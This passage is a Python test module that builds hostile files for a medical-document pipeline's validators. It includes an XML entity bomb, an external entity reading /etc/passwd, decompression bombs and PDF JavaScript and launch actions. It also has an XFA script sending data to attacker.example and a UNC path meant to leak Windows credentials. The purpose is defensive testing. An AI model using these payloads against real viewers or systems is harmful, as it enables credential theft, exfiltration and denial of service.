"""Hostile documents for the validators, written at test time as a batch folder the pipeline ingests.

`build_hostile_batch(out)` writes every case file, a `manifest.csv` listing all of them and an
`expected.csv` (`file,expected_state,expected_reason`). The expected reasons are the contract the
validators are held to. Nothing binary is committed: each file is built here, deterministically
(seeded RNG, fixed dates), and the bombs are streamed so building stays fast and small in memory.

`write_non_utf8_manifest_batch(out)` writes a batch whose manifest is Windows-1252, which the
pipeline must refuse as a whole.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from fpdf import FPDF
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, ByteStringObject, DictionaryObject, NameObject, TextStringObject

from pipeline.core.identity import INS_OID_NIR, nir_key, with_key
from pipeline.ingest.manifest import MANIFEST_COLUMNS

MIB = 1024 * 1024

EXPECTED_COLUMNS = ("file", "expected_state", "expected_reason")

PATIENT_BODY = "1850575123456"
OTHER_PATIENT_BODY = "2920169388012"
PATIENT_INS = with_key(PATIENT_BODY)  # the manifest's patient
OTHER_PATIENT_INS = with_key(OTHER_PATIENT_BODY)  # a valid NIR of someone else


def wrong_key(body13: str) -> str:
    """A well-formed NIR whose control key is wrong (key + 1, wrapping 97 to 01)."""
    return f"{body13}{nir_key(body13) % 97 + 1:02d}"


BAD_PATIENT_INS = wrong_key(PATIENT_BODY)

TITLE = "Compte rendu de biologie"
DOCUMENT_TYPE = "11502-2"
LOINC_OID = "2.16.840.1.113883.6.1"
SNOMED_OID = "2.16.840.1.113883.6.96"
AUTHOR_ID = "10003456789"
AUTHOR_PROFESSION = "physician"
FUTURE_DATE = "2099-01-01"

MANY_PAGES = 1500  # pages in many_pages.pdf
PAGE_LIMIT = 1000  # the page limit the validator tests are expected to configure
FLATE_BOMB_BYTES = 400 * MIB  # inflated size of flate_bomb.pdf's content stream
ZIP_BOMB_BYTES = 1024 * MIB  # inflated size of zip_bomb.zip's single member
SEED = 20250117
FIXED_DATE = dt.datetime(2025, 1, 17, 9, 30, tzinfo=dt.UTC)
ZIP_DATE = (2025, 1, 17, 9, 30, 0)

REPORT_TEXT = (
    "Compte rendu de biologie\n"
    "Prélèvement du 17/01/2025. Hémoglobine 13,2 g/dL ; plaquettes 250 G/L ; créatinine 78 µmol/L.\n"
    "Conclusion : bilan sans anomalie notable. Dr Martin, biologiste."
)
FRENCH_SENTENCE = "Le patient a été revu en consultation ; la créatinine est stable et le bilan hépatique est normal.\n"


@dataclass(frozen=True)
class HostileCase:
    file: str  # file name in the batch
    expected_state: str  # "indexed" or "rejected"
    expected_reason: str  # reason code, "" when indexed
    note: str  # what the file is


# ---------------------------------------------------------------------------------------------
# Small, valid building blocks


def good_pdf_bytes(text: str = REPORT_TEXT) -> bytes:
    """A small one-page PDF with real text (fpdf2), byte-for-byte reproducible."""
    pdf = FPDF()
    pdf.set_creation_date(FIXED_DATE)
    pdf.set_title(TITLE)
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    pdf.multi_cell(0, 8, text)
    return bytes(pdf.output())


def _pdf_writer() -> PdfWriter:
    """A writer holding a copy of the good one-page PDF."""
    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(good_pdf_bytes())))
    return writer


def _fix_id(writer: PdfWriter) -> None:
    """A fixed file /ID: pypdf draws it from `secrets`, and the RC4 key is derived from it."""
    writer._ID = ArrayObject([ByteStringObject(b"hostile-corpus-1"), ByteStringObject(b"hostile-corpus-1")])


def _pdf_writer_bytes(writer: PdfWriter) -> bytes:
    _fix_id(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _with_open_action(action: dict[str, str]) -> bytes:
    writer = _pdf_writer()
    entries = {NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v) for k, v in action.items()}
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(entries))
    return _pdf_writer_bytes(writer)


def png_bytes(width: int = 16, height: int = 16) -> bytes:
    """A small RGB PNG assembled by hand (signature, IHDR, IDAT, IEND)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + _png_row(width, y) for y in range(height))  # filter 0 on every row
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def _png_row(width: int, y: int) -> bytes:
    return b"".join(bytes((x * 16 % 256, y * 16 % 256, 128)) for x in range(width))


def jpeg_bytes() -> bytes:
    """A small baseline JFIF JPEG (Pillow, which fpdf2 depends on)."""
    image = Image.new("RGB", (16, 16))
    image.putdata([(x * 16, y * 16, 128) for y in range(16) for x in range(16)])
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", quality=85)
    return buffer.getvalue()


def tiff_bytes(width: int = 8, height: int = 8) -> bytes:
    """A minimal baseline TIFF assembled by hand: little-endian, 8-bit grey, one uncompressed strip."""
    short, long_, rational = 3, 4, 5
    n_tags = 12
    ifd_offset = 8
    after_ifd = ifd_offset + 2 + 12 * n_tags + 4
    x_res, y_res, data_offset = after_ifd, after_ifd + 8, after_ifd + 16
    tags = [
        (256, short, 1, width),  # ImageWidth
        (257, short, 1, height),  # ImageLength
        (258, short, 1, 8),  # BitsPerSample
        (259, short, 1, 1),  # Compression: none
        (262, short, 1, 1),  # PhotometricInterpretation: BlackIsZero
        (273, long_, 1, data_offset),  # StripOffsets
        (277, short, 1, 1),  # SamplesPerPixel
        (278, short, 1, height),  # RowsPerStrip
        (279, long_, 1, width * height),  # StripByteCounts
        (282, rational, 1, x_res),  # XResolution
        (283, rational, 1, y_res),  # YResolution
        (296, short, 1, 2),  # ResolutionUnit: inch
    ]
    assert len(tags) == n_tags
    out = bytearray(b"II*\x00" + struct.pack("<I", ifd_offset))
    out += struct.pack("<H", n_tags)
    for tag, kind, count, value in tags:
        packed = struct.pack("<HH", value, 0) if kind == short else struct.pack("<I", value)
        out += struct.pack("<HHI", tag, kind, count) + packed
    out += struct.pack("<I", 0)  # no next IFD
    out += struct.pack("<II", 72, 1) * 2
    out += bytes((x * 32 + y) % 256 for y in range(height) for x in range(width))
    return bytes(out)


def small_zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("compte-rendu.txt", ZIP_DATE), REPORT_TEXT.encode("utf-8"), zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def elf_bytes() -> bytes:
    """An ELF64 little-endian x86-64 executable header followed by zeros."""
    ident = b"\x7fELF" + bytes((2, 1, 1, 0)) + bytes(8)
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH",
        2,  # e_type: EXEC
        0x3E,  # e_machine: x86-64
        1,  # e_version
        0x401000,  # e_entry
        64,  # e_phoff
        0,  # e_shoff
        0,  # e_flags
        64,  # e_ehsize
        56,  # e_phentsize
        0,  # e_phnum
        64,  # e_shentsize
        0,  # e_shnum
        0,  # e_shstrndx
    )
    return header + bytes(4096)


def cda_bytes(ins: str, doctype: str = "", body: str = "Bilan sans anomalie notable.", code_system: str = LOINC_OID) -> bytes:
    """A well-formed CDA R2 lab report whose recordTarget carries `ins` under the NIR OID."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
{doctype}<ClinicalDocument xmlns="urn:hl7-org:v3">
  <realmCode code="FR"/>
  <typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
  <id root="1.2.250.1.999.1.1" extension="HOSTILE-CDA"/>
  <code code="{DOCUMENT_TYPE}" codeSystem="{code_system}" codeSystemName="LOINC" displayName="CR d'examens biologiques"/>
  <title>{TITLE}</title>
  <effectiveTime value="20250117093000+0100"/>
  <confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25"/>
  <languageCode code="fr-FR"/>
  <recordTarget>
    <patientRole>
      <id root="{INS_OID_NIR}" extension="{ins}"/>
      <patient>
        <name><given>Jeanne</given><family qualifier="BR">Durand</family></name>
        <administrativeGenderCode code="F" codeSystem="2.16.840.1.113883.5.1"/>
        <birthTime value="19850517"/>
      </patient>
    </patientRole>
  </recordTarget>
  <component>
    <structuredBody>
      <component>
        <section>
          <title>Résultats</title>
          <text><paragraph>{body}</paragraph></text>
        </section>
      </component>
    </structuredBody>
  </component>
</ClinicalDocument>
""".encode()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ELEMENT lolz (#PCDATA)>
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

MALFORMED_XML = b'<?xml version="1.0"?><ClinicalDocument xmlns="urn:hl7-org:v3"><code></ClinicalDocument>'
NOT_CDA_XML = b'<?xml version="1.0" encoding="UTF-8"?>\n<note><to>x</to></note>\n'
HTML_PAGE = b"<!DOCTYPE html><html><body><h1>Compte rendu de biologie</h1><p>Bilan normal.</p><script>alert(1)</script></body></html>\n"

# ---------------------------------------------------------------------------------------------
# Writers for the big or hand-assembled files (streamed)


def write_flate_bomb_pdf(path: Path, inflated: int = FLATE_BOMB_BYTES) -> None:
    """A one-page PDF whose content stream is FlateDecode of `inflated` zero bytes (~1000:1).

    Assembled by hand with a correct /Length and xref; the zeros are fed 1 MiB at a time, so only
    the compressed stream (~400 KB for 400 MiB) is ever held.
    """
    compressor = zlib.compressobj(9)
    zeros = bytes(MIB)
    parts = [compressor.compress(zeros) for _ in range(inflated // MIB)]
    parts.append(compressor.compress(bytes(inflated % MIB)))
    parts.append(compressor.flush())
    stream = b"".join(parts)

    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets: list[int] = []

    def obj(number: int, body: bytes) -> None:
        offsets.append(len(out))
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 4 0 R >>")
    obj(4, b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream")
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
    path.write_bytes(bytes(out))


def write_zip_bomb(path: Path, inflated: int = ZIP_BOMB_BYTES) -> None:
    """A zip whose single member inflates to `inflated` zero bytes, written 1 MiB at a time."""
    info = zipfile.ZipInfo("document.pdf", ZIP_DATE)
    info.compress_type = zipfile.ZIP_DEFLATED
    info._compresslevel = 9  # no public setter before Python 3.13 (where this name is an alias)
    zeros = bytes(MIB)
    with zipfile.ZipFile(path, "w") as archive, archive.open(info, "w") as member:
        for _ in range(inflated // MIB):
            member.write(zeros)
        member.write(bytes(inflated % MIB))


def write_many_pages_pdf(path: Path, pages: int = MANY_PAGES) -> None:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    path.write_bytes(_pdf_writer_bytes(writer))


def write_huge_text(path: Path, size: int) -> None:
    """`size` bytes of French UTF-8 text (whole sentences, padded with ASCII spaces)."""
    line = FRENCH_SENTENCE.encode("utf-8")
    block = line * (64 * 1024 // len(line))
    with path.open("wb") as handle:
        left = size
        while left >= len(block):
            handle.write(block)
            left -= len(block)
        whole = left // len(line)
        handle.write(line * whole)
        handle.write(b" " * (left - whole * len(line)))


# ---------------------------------------------------------------------------------------------
# The batch


def _encrypted_pdf() -> bytes:
    writer = _pdf_writer()
    _fix_id(writer)
    # RC4-128 rather than AES: AES salts and IVs come from `secrets`, RC4 keys only depend on
    # the passwords and the (fixed) /ID, so the file is reproducible. Either way it needs a password.
    writer.encrypt(user_password="secret-patient", owner_password="secret-owner", algorithm="RC4-128")
    # encrypt() keeps /ID[0] (the one the key is derived from) and draws a random /ID[1].
    return _pdf_writer_bytes(writer)


def _javascript_pdf() -> bytes:
    """Document-level JavaScript: catalog /Names /JavaScript name tree -> a /S /JavaScript action.

    Built by hand: pypdf 7 turned `add_js` into a DeprecationError, and its replacement
    `add_open_action(JavaScript(...))` names the entry with a random uuid4 (not reproducible).
    """
    writer = _pdf_writer()
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('Hostile corpus: document-level JavaScript');"),
        }
    )
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("hostile"), writer._add_object(action)])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return _pdf_writer_bytes(writer)


def _embedded_exe_pdf() -> bytes:
    writer = _pdf_writer()
    writer.add_attachment("update.exe", b"MZ" + b"\x90\x00" + bytes(1020))
    return _pdf_writer_bytes(writer)


# ---------------------------------------------------------------------------------------------
# Hand-assembled PDFs: what pypdf's writer refuses to write (repeated keys, actions to shares...)

HIDDEN_BOMB_BYTES = 300 * MIB  # inflated size of the second /Contents of repeated_contents_bomb.pdf
MISSING_OBJECTS = 40_000  # references to undefined objects in missing_objects.pdf
FLOOD_ARRAYS, FLOOD_LENGTH = 5, 90_000  # object_stream_flood.pdf: arrays of zeros in one object stream
HUGE_PNG_SIDE = 20_000
PAGE_TEXT = b"BT /F1 12 Tf 72 770 Td (Compte rendu de biologie) Tj ET"


def assemble_pdf(objects: list[bytes], trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """A PDF whose object n is `objects[n - 1]` (1: the catalog), with a correct cross-reference table.

    `tail` goes after the objects, before the table (padding, comments).
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += tail
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def page_pdf(
    catalog: bytes = b"",
    page: bytes = b"",
    more: list[bytes] | None = None,
    tail: bytes = b"",
    resources: bytes = b"",
    contents: bytes = PAGE_TEXT,
    content_entries: bytes = b"",
) -> bytes:
    """A one-page PDF with a line of text: catalog 1, pages 2, page 3, font 4, contents 5, then `more` from 6.

    `catalog`, `page` and `resources` are added to those dictionaries; `contents` (with `content_entries`) is
    the page's content stream.
    """
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> "
            + resources
            + b" >> /Contents 5 0 R "
            + page
            + b" >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            stream(contents, content_entries),
            *(more or []),
        ],
        tail=tail,
    )


def deflated_zeros(size: int) -> bytes:
    """zlib of `size` zero bytes, compressed 1 MiB at a time."""
    compressor = zlib.compressobj(9)
    zeros = bytes(MIB)
    parts = [compressor.compress(zeros) for _ in range(size // MIB)]
    parts.append(compressor.compress(bytes(size % MIB)))
    parts.append(compressor.flush())
    return b"".join(parts)


def repeated_open_action_pdf() -> bytes:
    """/OpenAction twice: pypdf keeps the first (a harmless view), viewers the last (JavaScript)."""
    return page_pdf(
        catalog=b"/OpenAction [3 0 R /Fit] /OpenAction 6 0 R",
        more=[b"<< /S /JavaScript /JS (app.alert\\('hidden behind a repeated key'\\);) >>"],
    )


def write_repeated_contents_bomb_pdf(path: Path) -> None:
    """/Contents twice: pypdf reads the small page, viewers inflate the second, HIDDEN_BOMB_BYTES of zeros."""
    bomb = stream(deflated_zeros(HIDDEN_BOMB_BYTES), b"/Filter /FlateDecode ")
    path.write_bytes(page_pdf(page=b"/Contents 6 0 R", more=[bomb]))


def xfa_script_pdf() -> bytes:
    """An XFA form whose template runs JavaScript on opening."""
    template = (
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"app.launchURL('http://attacker.example/?' + xfa.host.name);</script></event></subform></template>"
    )
    return page_pdf(catalog=b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>", more=[stream(template)])


def remote_action_pdf(kind: bytes = b"/GoToR", target: bytes = b"(\\\\\\\\attacker.example\\\\share\\\\cr.pdf)") -> bytes:
    """An /OpenAction opening a file on a UNC path (\\\\attacker.example\\share\\cr.pdf): Windows sends the reader's credentials."""
    key = b"/URI" if kind == b"/URI" else b"/F"
    return page_pdf(catalog=b"/OpenAction << /S " + kind + b" " + key + b" " + target + b" /D [0 /Fit] >>")


def polyglot_pdf(member: str = "setup.exe", data: bytes = b"MZ\x90\x00" + bytes(1020)) -> bytes:
    """A good PDF followed by a zip: PDF viewers read the PDF, zip tools the archive (its directory is at the end)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo(member, ZIP_DATE), data)
    return good_pdf_bytes() + buffer.getvalue()


def write_huge_png(path: Path, side: int = HUGE_PNG_SIDE) -> None:
    """A side x side 1-bit grey PNG of zeros: ~50 KB on disk, 400 million pixels once decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor = zlib.compressobj(9)
    row = bytes(1 + (side + 7) // 8)  # filter byte 0, then the packed bits
    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def missing_objects_pdf(count: int = MISSING_OBJECTS) -> bytes:
    """A page citing `count` objects no table lists, after a megabyte of comment: a search of the file per reference."""
    references = b" ".join(b"%d 0 R" % (1000 + n) for n in range(count))
    return page_pdf(catalog=b"/Extra 6 0 R", more=[b"[" + references + b"]"], tail=b"%" + b"x" * MIB + b"\n")


def object_stream_flood_pdf(arrays: int = FLOOD_ARRAYS, length: int = FLOOD_LENGTH) -> bytes:
    """A few kilobytes whose object stream inflates into `arrays` arrays of `length` zeros, all reachable."""
    first = 6
    bodies = [b"[" + b"0 " * length + b"]" for _ in range(arrays)]
    header, offset = b"", 0
    for n, body in enumerate(bodies):
        header += b"%d %d " % (first + n, offset)
        offset += len(body) + 1
    payload = header + b"".join(body + b" " for body in bodies)
    catalog = b"/Extra [" + b" ".join(b"%d 0 R" % (first + n) for n in range(arrays)) + b"]"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"null",
        b"null",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    objstm = first + arrays
    offsets.append(len(out))
    entries = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode " % (arrays, len(header))
    out += b"%d 0 obj\n" % objstm + stream(zlib.compress(payload, 9), entries) + b"\nendobj\n"
    xref_number = objstm + 1
    xref_offset = len(out)
    rows = [b"\x00" + struct.pack(">IH", 0, 65535)]
    rows += [b"\x01" + struct.pack(">IH", offset, 0) for offset in offsets[:5]]
    rows += [b"\x02" + struct.pack(">IH", objstm, n) for n in range(arrays)]
    rows += [b"\x01" + struct.pack(">IH", offsets[5], 0), b"\x01" + struct.pack(">IH", xref_offset, 0)]
    table = zlib.compress(b"".join(rows))
    xref_entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode " % (xref_number + 1)
    out += b"%d 0 obj\n" % xref_number + stream(table, xref_entries) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def build_hostile_batch(out: Path, max_file_bytes: int = 4 * MIB) -> list[HostileCase]:
    """Write the hostile corpus into the folder `out` (created if needed) and return its cases."""
    out.mkdir(parents=True, exist_ok=True)
    rng = random.Random(SEED)
    good_pdf = good_pdf_bytes()

    def data(payload: bytes) -> Callable[[Path], None]:
        return lambda path: path.write_bytes(payload)

    # (file, expected state, expected reason, note, writer, manifest overrides)
    table: list[tuple[str, str, str, str, Callable[[Path], None], dict[str, str]]] = [
        ("good.pdf", "indexed", "", "small valid one-page PDF with text (fpdf2)", data(good_pdf), {}),
        ("truncated.pdf", "rejected", "pdf_corrupt", "valid PDF cut at 50%", data(good_pdf[: len(good_pdf) // 2]), {}),
        (
            "garbage.pdf",
            "rejected",
            "pdf_corrupt",
            "%PDF-1.7 header then 20 KiB of seeded random bytes",
            data(b"%PDF-1.7\n" + rng.randbytes(20 * 1024)),
            {},
        ),
        ("encrypted.pdf", "rejected", "pdf_encrypted", "PDF encrypted (RC4-128) with a user password", data(_encrypted_pdf()), {}),
        (
            "javascript.pdf",
            "rejected",
            "pdf_active_content",
            "PDF with document-level JavaScript (/Names /JavaScript name tree)",
            data(_javascript_pdf()),
            {},
        ),
        (
            "openaction_js.pdf",
            "rejected",
            "pdf_active_content",
            "PDF whose catalog /OpenAction is << /S /JavaScript /JS (...) >>",
            data(_with_open_action({"/S": "/JavaScript", "/JS": "app.alert('OpenAction');"})),
            {},
        ),
        (
            "launch.pdf",
            "rejected",
            "pdf_active_content",
            "PDF whose catalog /OpenAction is << /S /Launch /F (calc.exe) >>",
            data(_with_open_action({"/S": "/Launch", "/F": "calc.exe"})),
            {},
        ),
        (
            "embedded_exe.pdf",
            "rejected",
            "pdf_active_content",
            "PDF with an embedded file update.exe starting with MZ",
            data(_embedded_exe_pdf()),
            {},
        ),
        (
            "flate_bomb.pdf",
            "rejected",
            "pdf_too_large",
            f"one-page PDF whose content stream inflates to {FLATE_BOMB_BYTES // MIB} MiB of zeros",
            write_flate_bomb_pdf,
            {},
        ),
        (
            "many_pages.pdf",
            "rejected",
            "pdf_too_large",
            f"valid PDF with {MANY_PAGES} blank pages (page limit {PAGE_LIMIT})",
            write_many_pages_pdf,
            {},
        ),
        ("billion_laughs.xml", "rejected", "xml_forbidden_construct", "billion laughs: nested internal entities", data(BILLION_LAUGHS), {}),
        (
            "external_entity.xml",
            "rejected",
            "xml_forbidden_construct",
            "CDA whose body uses an external entity on file:///etc/passwd",
            data(
                cda_bytes(
                    PATIENT_INS,
                    doctype='<!DOCTYPE ClinicalDocument [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n',
                    body="&e;",
                )
            ),
            {},
        ),
        ("malformed.xml", "rejected", "xml_malformed", "CDA root with an unclosed <code>", data(MALFORMED_XML), {}),
        (
            "cda_other_patient.xml",
            "rejected",
            "patient_mismatch",
            "well-formed CDA R2 for another patient (valid NIR)",
            data(cda_bytes(OTHER_PATIENT_INS)),
            {},
        ),
        (
            "cda_bad_ins.xml",
            "rejected",
            "invalid_ins",
            "well-formed CDA R2 whose recordTarget NIR has a wrong key",
            data(cda_bytes(BAD_PATIENT_INS)),
            {},
        ),
        ("cda_good.xml", "indexed", "", "well-formed CDA R2 for the manifest's patient", data(cda_bytes(PATIENT_INS)), {}),
        ("not_cda.xml", "rejected", "unsupported_type", "well-formed XML that is not a CDA (<note>)", data(NOT_CDA_XML), {}),
        (
            "pdf_header_zip.pdf",
            "rejected",
            "pdf_corrupt",
            "%PDF-1.4 header followed by a valid small zip",
            data(b"%PDF-1.4\n" + small_zip_bytes()),
            {},
        ),
        ("html_as.pdf", "rejected", "type_mismatch", "HTML page named .pdf", data(HTML_PAGE), {}),
        (
            "zip_as_document.zip",
            "rejected",
            "unsupported_type",
            "zip with a text member, listed as a document",
            data(small_zip_bytes()),
            {},
        ),
        (
            "zip_bomb.zip",
            "rejected",
            "unsupported_type",
            f"zip whose single member inflates to {ZIP_BOMB_BYTES // MIB} MiB of zeros",
            write_zip_bomb,
            {},
        ),
        (
            "repeated_open_action.pdf",
            "rejected",
            "pdf_ambiguous",
            "catalog with /OpenAction twice: a view (read by pypdf), then JavaScript (run by viewers)",
            data(repeated_open_action_pdf()),
            {},
        ),
        (
            "repeated_contents_bomb.pdf",
            "rejected",
            "pdf_ambiguous",
            f"page with /Contents twice, the second inflating to {HIDDEN_BOMB_BYTES // MIB} MiB of zeros",
            write_repeated_contents_bomb_pdf,
            {},
        ),
        ("xfa_script.pdf", "rejected", "pdf_active_content", "XFA form whose template runs JavaScript", data(xfa_script_pdf()), {}),
        (
            "gotor_unc.pdf",
            "rejected",
            "pdf_active_content",
            "/OpenAction GoToR to \\\\attacker.example\\share\\cr.pdf (credential leak)",
            data(remote_action_pdf()),
            {},
        ),
        (
            "polyglot_exe.pdf",
            "rejected",
            "pdf_active_content",
            "good PDF followed by a zip holding setup.exe (MZ)",
            data(polyglot_pdf()),
            {},
        ),
        (
            "huge.png",
            "rejected",
            "image_too_large",
            f"{HUGE_PNG_SIDE}x{HUGE_PNG_SIDE} 1-bit PNG of zeros (~50 KB)",
            write_huge_png,
            {},
        ),
        (
            "missing_objects.pdf",
            "indexed",
            "",
            f"one page citing {MISSING_OBJECTS} undefined objects after 1 MiB of comment (null, as readers take them)",
            data(missing_objects_pdf()),
            {},
        ),
        (
            "object_stream_flood.pdf",
            "rejected",
            "pdf_too_large",
            f"a few KB whose object stream inflates into {FLOOD_ARRAYS} arrays of {FLOOD_LENGTH} zeros",
            data(object_stream_flood_pdf()),
            {},
        ),
        (
            "cda_loinc_as_snomed.xml",
            "indexed",
            "",
            "CDA whose LOINC code 11502-2 is given under the SNOMED CT OID (not its own code: classified from the manifest)",
            data(cda_bytes(PATIENT_INS, code_system=SNOMED_OID)),
            {},
        ),
        ("empty.pdf", "rejected", "empty_file", "0 bytes", data(b""), {}),
        (
            "huge.txt",
            "rejected",
            "file_too_large",
            "French plain text of max_file_bytes + 1 MiB",
            lambda path: write_huge_text(path, max_file_bytes + MIB),
            {},
        ),
        ("exe_as.pdf", "rejected", "type_mismatch", "MZ then 4 KiB of zeros, named .pdf", data(b"MZ" + bytes(4096)), {}),
        ("elf_no_ext", "rejected", "unsupported_type", "ELF64 executable header then zeros, no extension", data(elf_bytes()), {}),
        ("note.txt", "indexed", "", "short French UTF-8 text", data((REPORT_TEXT + "\n").encode("utf-8")), {}),
        ("image.png", "indexed", "", "16x16 RGB PNG built with zlib+struct", data(png_bytes()), {}),
        ("photo.jpg", "indexed", "", "16x16 baseline JFIF JPEG (Pillow)", data(jpeg_bytes()), {}),
        ("scan.tiff", "indexed", "", "8x8 grey uncompressed baseline TIFF built by hand", data(tiff_bytes()), {}),
        (
            "future_date.pdf",
            "rejected",
            "invalid_metadata",
            f"good PDF, manifest service_date {FUTURE_DATE}",
            data(good_pdf),
            {"service_date": FUTURE_DATE},
        ),
        (
            "bad_nir.pdf",
            "rejected",
            "invalid_ins",
            "good PDF, manifest patient_ins with a wrong key",
            data(good_pdf),
            {"patient_ins": BAD_PATIENT_INS},
        ),
    ]

    cases: list[HostileCase] = []
    manifest_rows: list[dict[str, str]] = []
    for number, (name, state, reason, note, write, overrides) in enumerate(table, start=1):
        write(out / name)
        cases.append(HostileCase(name, state, reason, note))
        row = {
            "file": name,
            "patient_ins": PATIENT_INS,
            "source_document_id": f"HOSTILE-{number:03d}",
            "title": TITLE,
            "document_type": DOCUMENT_TYPE,
            "service_date": f"2025-01-{number % 28 + 1:02d}",
            "author_id": AUTHOR_ID,
            "author_profession": AUTHOR_PROFESSION,
        }
        row.update(overrides)
        manifest_rows.append(row)

    _write_csv(out / "manifest.csv", MANIFEST_COLUMNS, manifest_rows)
    _write_csv(
        out / "expected.csv",
        EXPECTED_COLUMNS,
        [{"file": c.file, "expected_state": c.expected_state, "expected_reason": c.expected_reason} for c in cases],
